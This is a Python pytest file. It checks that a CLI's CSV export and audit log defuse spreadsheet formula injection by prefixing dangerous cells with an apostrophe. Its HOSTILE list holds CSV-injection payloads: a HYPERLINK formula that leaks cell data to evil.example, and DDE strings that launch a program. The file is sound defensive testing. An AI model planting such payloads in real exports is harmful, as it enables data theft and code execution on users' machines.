"""`meld export` and `meld audit --format csv`: text that a spreadsheet would run as a
formula, stored through the real services, comes out behind an apostrophe (issue 11).
The period report's CSV and XLSX are in test_cli_report.py."""

from __future__ import annotations

import csv
import io

import pytest

from intake import services
from intake.cli.main import main
from intake.domain.model import Actor, Role
from intake.settings import Settings
from tests.integration.helpers import draft

REPORTER = Actor("web:sheet-test", Role.REPORTER)
GROUP = Actor("cli:sheet-test", Role.ADMIN)
HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1;"Avtale 4.2")', "+47 cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def cli_settings(db_url: str) -> Settings:
    return Settings(database_url=db_url, secret_key="test-secret" * 3)


def run(settings: Settings, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    code = main(list(argv), settings=settings)
    out = capsys.readouterr()
    assert code == 0, out.err
    return out.out


def test_export_defuses_formulas_and_keeps_numbers(cli_settings, capsys, ctx,
                                                   tmp_path) -> None:
    refs = []
    for agreement in [*HOSTILE, "-12", "Retningslinje 5"]:
        ref = services.submit_report(ctx=ctx, actor=REPORTER, draft=draft()).reference
        services.assess(ctx=ctx, actor=GROUP, reference=ref, agreement_reference=agreement)
        refs.append(ref)
    target = tmp_path / "export.csv"
    assert run(cli_settings, capsys, "export", "--out", str(target)) == ""
    for text in (run(cli_settings, capsys, "export", "--format", "csv"),
                 target.read_text(encoding="utf-8")):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        column = rows[0].index("agreement_reference")
        agreement = {r[0]: r[column] for r in rows[1:]}
        assert [agreement[ref] for ref in refs] == [
            *("'" + h for h in HOSTILE), "-12", "Retningslinje 5"]  # a number is no formula
        assert not [c for r in rows for c in r if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert [c for r in rows for c in r if c.startswith("-")] == ["-12"]


def test_audit_csv_defuses_formulas(cli_settings, capsys, ctx) -> None:
    ref = services.submit_report(ctx=ctx, actor=REPORTER, draft=draft()).reference
    for identity in HOSTILE:  # an identity is prefixed by its door; the writer trusts none
        services.get_report(ctx=ctx, actor=Actor(identity, Role.TRIAGER), reference=ref)
    rows = list(csv.reader(io.StringIO(run(cli_settings, capsys, "audit", "--format", "csv"),
                                       newline="")))
    assert rows[0] == ["id", "at", "actor", "role", "action", "reference", "details"]
    reads = [r for r in rows[1:] if r[4] == "read"]
    assert [r[2] for r in reads] == ["'" + h for h in HOSTILE]
    assert all(r[5] == ref and int(r[0]) > 0 for r in reads)
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "-", "@"))]
